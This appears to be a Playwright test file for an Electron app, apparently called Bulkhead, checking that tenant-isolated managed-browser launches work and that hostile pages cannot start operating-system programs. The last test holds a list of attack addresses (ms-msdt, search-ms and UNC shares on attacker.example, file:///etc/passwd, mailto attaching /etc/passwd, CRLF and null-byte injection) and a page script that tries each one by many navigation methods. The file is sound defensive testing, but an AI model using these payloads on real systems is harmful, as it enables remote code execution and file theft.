import { stat } from 'node:fs/promises';
import { join } from 'node:path';
import { type Bulkhead, expect, test as base } from '../../support/bulkhead.ts';
import { demoTenant, OPERATOR } from '../../support/demo-estate.ts';
import { openHostile, serve } from '../../support/hostile-page.ts';
import { recordPrograms, type RecordingPrograms } from '../../support/managed-browser.ts';
import { Operator } from '../../support/operator.ts';
import { listenForNotices } from '../../support/refusals.ts';
import { signIn } from '../../support/sign-in.ts';

// T09: what leaves Bulkhead for another program. The managed browser does, when the operator says
// so; nothing else does, whatever a page tries.

const test = base.extend<{ programs: RecordingPrograms }>({
  // eslint-disable-next-line no-empty-pattern
  programs: async ({}, use) => {
    const programs = await recordPrograms();
    await use(programs);
    await programs.remove();
  },
});

test('the managed browser gets the page in a profile of the tenant alone', async ({
  programs,
  cloud,
  start,
  profileDir,
}) => {
  const bulkhead = await start({ policyFile: programs.policyFile });
  const operator = new Operator(bulkhead);
  const contoso = demoTenant(cloud, 'Contoso');
  const fabrikam = demoTenant(cloud, 'Fabrikam');
  const page = await operator.openPortal(contoso, 'defender');
  await signIn(page, cloud, OPERATOR);
  await page.evaluate(() => {
    history.replaceState(null, '', `/incidents${location.search}&code=SECRET&id=7#id_token=SECRET`);
  });

  await operator.button('Open in managed browser').click();
  await expect(
    bulkhead.shell.getByText('Opened in Managed test browser, in a profile of this tenant alone.'),
  ).toBeVisible();
  await operator.openPortal(fabrikam, 'entra');
  await operator.button('Open in managed browser').click();

  await expect.poll(async () => (await programs.starts()).length).toBe(2);
  const profileOf = (id: string) => join(profileDir, 'managed-browser', id);
  const starts = await programs.starts();
  expect(starts.map((one) => one.arguments).toSorted()).toEqual(
    [
      [
        `--user-data-dir=${profileOf(contoso.id)}`,
        '--no-first-run',
        '--no-default-browser-check',
        `https://security.microsoft.com/incidents?tid=${contoso.id}&id=7`,
      ],
      [
        `--user-data-dir=${profileOf(fabrikam.id)}`,
        '--no-first-run',
        '--no-default-browser-check',
        // Of a page that stands on the sign-in, the portal's own address.
        `https://entra.microsoft.com/${fabrikam.id}`,
      ],
    ].toSorted(),
  );
  for (const { variables } of starts) {
    expect(variables.filter((name) => /^(BULKHEAD|ELECTRON|CHROME|NODE)_/.test(name))).toEqual([]);
    expect(variables).toContain('DISPLAY');
  }
  expect((await stat(profileOf(contoso.id))).mode & 0o077).toBe(0);
});

test('a tenant that wants a compliant device leads to the managed browser', async ({
  programs,
  cloud,
  start,
}) => {
  const bulkhead = await start({ policyFile: programs.policyFile });
  const operator = new Operator(bulkhead);
  const northwind = demoTenant(cloud, 'Northwind Traders');
  const page = await operator.openPortal(northwind, 'defender');
  await signIn(page, cloud, OPERATOR);

  const bar = bulkhead.shell.getByRole('region', { name: 'Sign-in blocked' });
  await expect(bar).toContainText('AADSTS53000');
  await bar.getByRole('button', { name: 'Open in managed browser' }).click();

  await expect.poll(async () => (await programs.starts()).length).toBe(1);
  expect((await programs.starts())[0]?.arguments.at(-1)).toBe(
    `https://security.microsoft.com/?tid=${northwind.id}`,
  );
});

test('a browser that is not there is told in plain words', async ({ cloud, start }) => {
  const programs = await recordPrograms({ name: 'Contoso Secure Browser', isThere: false });
  const bulkhead = await start({ policyFile: programs.policyFile });
  const operator = new Operator(bulkhead);
  await operator.openPortal(demoTenant(cloud, 'Contoso'), 'defender');

  await operator.button('Open in managed browser').click();

  await expect(
    bulkhead.shell.getByText(
      'The managed browser that your administrator chose (Contoso Secure Browser) is not installed. Copy the link instead.',
    ),
  ).toBeVisible();
  expect(await programs.starts()).toEqual([]);
  await programs.remove();
});

/** Counts what main would hand to the operating system. */
async function spyOnShell(bulkhead: Bulkhead): Promise<() => Promise<readonly string[]>> {
  await bulkhead.electron.app.evaluate(({ shell }) => {
    const calls: string[] = [];
    Reflect.set(globalThis, 'shellCalls', calls);
    for (const name of ['openExternal', 'openPath', 'showItemInFolder', 'beep'] as const) {
      Reflect.set(shell, name, (address: unknown) => {
        calls.push(`${name} ${String(address)}`);
        return Promise.resolve('');
      });
    }
  });
  return () =>
    bulkhead.electron.app.evaluate(() => Reflect.get(globalThis, 'shellCalls') as string[]);
}

const ADDRESSES = [
  'ms-msdt:/id%20PCWDiagnostic',
  'search-ms:query=secrets&crumb=location:%5C%5Cattacker.example%5Cshare',
  'file:///etc/passwd',
  '\\\\attacker.example\\share\\tool.exe',
  'smb://attacker.example/share',
  'mailto:someone@attacker.example?attach=/etc/passwd',
  'tel:+15550100',
  'vscode://attacker.example/run',
  'ms-appinstaller:?source=https://attacker.example/a.appx',
  'zoommtg://attacker.example/join',
  'https://attacker.example/%00',
  'https://attacker.example/%0d%0a--no-sandbox',
  'x-attacker:\nnewline',
  'x-attacker:nul\0',
];

/** Every way in which a page can ask for an address, for each of them. */
const attempts = (addresses: readonly string[]) => `
${addresses.map((address, at) => `<a id="link-${String(at)}" href="${address.replaceAll('"', '&quot;').replaceAll('\0', '&#0;')}">x</a>`).join('')}
<style>.in-front { position: fixed; left: 0; top: 0; width: 90px; height: 90px; z-index: 9; }</style>
<script>
  window.clicks = 0;
  addEventListener('click', (event) => { if (event.isTrusted) window.clicks += 1; });
  const addresses = ${JSON.stringify(addresses)};
  const tries = [
    (a) => { location.href = a; },
    (a) => { location.replace(a); },
    (a) => { window.open(a); },
    (a) => { window.open(a, '_self'); },
    (a) => { const f = document.createElement('iframe'); f.src = a; document.body.append(f); },
    (a) => { const o = document.createElement('object'); o.data = a; document.body.append(o); },
    (a) => { const m = document.createElement('form'); m.action = a; document.body.append(m); m.submit(); },
    (a, at) => { document.getElementById('link-' + at).click(); },
    (a, at) => { const f = document.createElement('iframe'); f.src = '/redirect/' + at; document.body.append(f); },
  ];
  window.tryAll = async () => {
    for (const [at, address] of addresses.entries())
      for (const attempt of tries) {
        try { attempt(address, at); } catch {}
        await new Promise((resolve) => setTimeout(resolve, 15));
      }
  };
</script>`;

test('no page starts a program of the operating system', async ({ programs, cloud, start }) => {
  const bulkhead = await start({
    variables: { PATH: `${programs.desktopDir}:${process.env['PATH'] ?? ''}` },
  });
  const contoso = demoTenant(cloud, 'Contoso');
  const calls = await spyOnShell(bulkhead);
  const notices = await listenForNotices(bulkhead);
  const address = serve(cloud, '/launcher', attempts(ADDRESSES));
  for (const [at, target] of ADDRESSES.entries()) {
    // A header holds no line ends.
    const location = target.replace(/[\n\0]/, '');
    serve(cloud, `/redirect/${String(at)}`, '', { status: 302, headers: { location } });
  }
  const page = await openHostile(bulkhead, contoso.id, address);

  // First as scripts do, without anybody there; then with a hand on the page.
  await page.evaluate(() => (Reflect.get(window, 'tryAll') as () => Promise<void>)());
  expect(page.url()).toBe(address);
  for (const [at] of ADDRESSES.entries()) {
    // No locator: Playwright would wait for the end of navigations that were stopped.
    await page.evaluate(
      (id) => document.getElementById(id)?.setAttribute('class', 'in-front'),
      `link-${String(at)}`,
    );
    await page.mouse.click(40, 40);
    await page.evaluate((id) => document.getElementById(id)?.remove(), `link-${String(at)}`);
  }

  expect(await page.evaluate(() => Reflect.get(window, 'clicks'))).toBe(ADDRESSES.length);
  // And as a portal's server does, with a redirect.
  for (const [at] of ADDRESSES.entries()) {
    await page.goto(`https://security.microsoft.com/redirect/${String(at)}`).catch(() => null);
    // Of a redirect to a file Chromium makes an error page, some time later.
    await expect(() => page.goto(address)).toPass();
  }

  // What no event of a navigation told of: the permission is the second lock.
  await bulkhead.electron.app.evaluate(async ({ webContents }, shown) => {
    const contents = webContents.getAllWebContents().find((one) => one.getURL() === shown);
    await contents?.loadURL('ms-msdt:/id%20PCWDiagnostic').catch(() => undefined);
  }, address);

  const said = async () => (await notices()).map(({ message }) => message);
  await expect.poll(said).toContainEqual(expect.stringContaining('does not start programs'));
  expect(await said()).toContainEqual(expect.stringContaining('go to a “ms-msdt:” address'));
  expect(await said()).toContainEqual(expect.stringContaining('open a “ms-msdt:” address'));
  expect(await calls()).toEqual([]);
  expect(await programs.starts()).toEqual([]);
  expect(page.url()).toBe(address);
});
